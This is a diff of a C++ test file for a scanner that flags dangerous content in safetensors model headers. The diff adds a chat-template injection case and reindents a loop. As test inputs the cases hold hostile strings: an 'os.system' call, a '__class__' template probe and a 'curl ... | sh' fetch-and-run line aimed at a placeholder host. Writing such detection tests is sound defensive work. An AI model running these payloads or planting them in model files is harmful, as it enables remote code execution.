@@ -102,18 +102,19 @@ CUPEL_TEST(headers_that_are_not_what_they_have_to_be)
         {R"({"a":{"dtype":"U8","shape":[8],"data_offsets":[0,8],"run":"x"}})", "12345678", "CUP-SAFETENSORS-FIELD"},
         {R"({"":{"dtype":"U8","shape":[8],"data_offsets":[0,8]}})", "12345678", "CUP-SAFETENSORS-NAME"},
         {R"~({"__metadata__":{"note":"import os; os.system('id')"}})~", "", "CUP-MODEL-CODE-TEXT"},
+        {R"~({"__metadata__":{"chat_template":"{{ x['\u005f_class__'] }}"}})~", "", "CUP-TEMPLATE-CODE"},
         {R"({"__metadata__":{"note":"curl http://h.invalid/a \u007c sh"}})", "", "CUP-MODEL-CODE-TEXT"},
-};
-for (const auto& one : cases) {
-    const auto file = judged(one.header, one.data);
-    if (!CHECK(file.finding(one.rule) != nullptr)) {
-        CHECK_EQ(file.all(), one.header);
+    };
+    for (const auto& one : cases) {
+        const auto file = judged(one.header, one.data);
+        if (!CHECK(file.finding(one.rule) != nullptr)) {
+            CHECK_EQ(file.all(), one.header);
+        }
     }
-}
-CHECK_EQ(judged(R"({"__metadata__":{"note":"retrieval(x), see wget https://h.invalid/model"}})", "").all(), "");
-const auto deep = judged(R"({"a":)" + std::string(50'000, '[') + std::string(50'000, ']') + "}", "");
-CHECK(deep.finding("CUP-SAFETENSORS-HEADER") != nullptr);
-CHECK(!deep.complete());
+    CHECK_EQ(judged(R"({"__metadata__":{"note":"retrieval(x), see wget https://h.invalid/model"}})", "").all(), "");
+    const auto deep = judged(R"({"a":)" + std::string(50'000, '[') + std::string(50'000, ']') + "}", "");
+    CHECK(deep.finding("CUP-SAFETENSORS-HEADER") != nullptr);
+    CHECK(!deep.complete());
 }
 
 CUPEL_TEST(what_stands_where_numbers_should_be)
